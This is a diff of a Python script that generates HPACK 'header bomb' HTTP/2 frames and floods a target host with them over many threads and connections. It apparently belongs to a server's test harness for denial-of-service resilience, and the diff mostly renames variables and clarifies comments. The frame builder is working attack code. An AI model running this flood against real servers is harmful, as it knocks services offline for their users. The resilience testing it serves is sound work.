@@ -1,8 +1,8 @@
-"""Calls whose headers refer to each other (HPACK): a byte stands for 4 KB that was sent once.
+"""HPACK bombs: calls with compressed headers in which each byte refers to an entry of 4 KB that was sent once.
 
-As a program, in a process of its own: `header_bombs.py HOST:PORT CONNECTIONS SECONDS ADDRESSES WAY [CA]`. They come
-from 127.0.0.1 to 127.0.0.ADDRESSES. WAY: "unread", "reads" the answers, or "leaves" after `FEW` frames, to connect
-again. With CA (a file, PEM) they come over TLS.
+The program is `header_bombs.py HOST:PORT CONNECTIONS SECONDS ADDRESSES WAY [CA]`. The connections come from 127.0.0.1
+to 127.0.0.ADDRESSES. WAY: "unread" does not read the answers, "reads" reads them, "leaves" reconnects after `FEW`
+frames. With CA (a PEM file), TLS is used.
 """
 
 from __future__ import annotations
@@ -24,22 +24,22 @@ from support.raw_grpc import PUSH, frame, headers, literal, preface
 
 FRAME_BYTES = 16_384
 _HEADERS, _END_HEADERS = 1, 4
-_REMEMBERED = b"\x40" + literal("x") + literal("v" * 4_000)
-_IT = b"\xbe"
-_PAUSE = 0.02  # between two connections of one thread
+_STORED_ENTRY = b"\x40" + literal("x") + literal("v" * 4_000)
+_REFERENCE = b"\xbe"
+_PAUSE = 0.02  # seconds between two connections of one thread
 FEW, _MANY = 3, 512  # frames
 
 
 def _frames(count: int) -> bytes:
-    blocks = [headers(PUSH) + (b"" if number else _REMEMBERED) for number in range(count)]
-    padded = [block + _IT * (FRAME_BYTES - len(block)) for block in blocks]
+    blocks = [headers(PUSH) + (b"" if number else _STORED_ENTRY) for number in range(count)]
+    padded = [block + _REFERENCE * (FRAME_BYTES - len(block)) for block in blocks]
     return preface() + b"".join(
         frame(_HEADERS, _END_HEADERS, 2 * number + 1, block) for number, block in enumerate(padded)
     )
 
 
 class Bombs:
-    """An attack by several threads."""
+    """An attack with several threads."""
 
     def __init__(
         self, address: str, seconds: float, addresses: int, way: str, tls: ssl.SSLContext | None = None
@@ -54,7 +54,7 @@ class Bombs:
         self._tls = tls
 
     def run(self, connections: int) -> None:
-        """Send over this many connections at a time until the time is over."""
+        """Attack with this many simultaneous connections until the time is over."""
         threads = [threading.Thread(target=self._work) for _ in range(connections)]
         for thread in threads:
             thread.start()
@@ -90,9 +90,9 @@ class Bombs:
 
 
 if __name__ == "__main__":
-    os.nice(10)  # it stands for other machines, and is not to take this one's processors from honest clients
-    target, many, lasting, spread, how, *ca = sys.argv[1:]
+    os.nice(10)  # an attacker on another machine would not use the processors of honest clients
+    target, connections, seconds, addresses, way, *ca = sys.argv[1:]
     context = ssl.create_default_context(cafile=ca[0]) if ca else None
     if context is not None:
         context.set_alpn_protocols(["h2"])
-    Bombs(target, float(lasting), int(spread), how, context).run(int(many))
+    Bombs(target, float(seconds), int(addresses), way, context).run(int(connections))
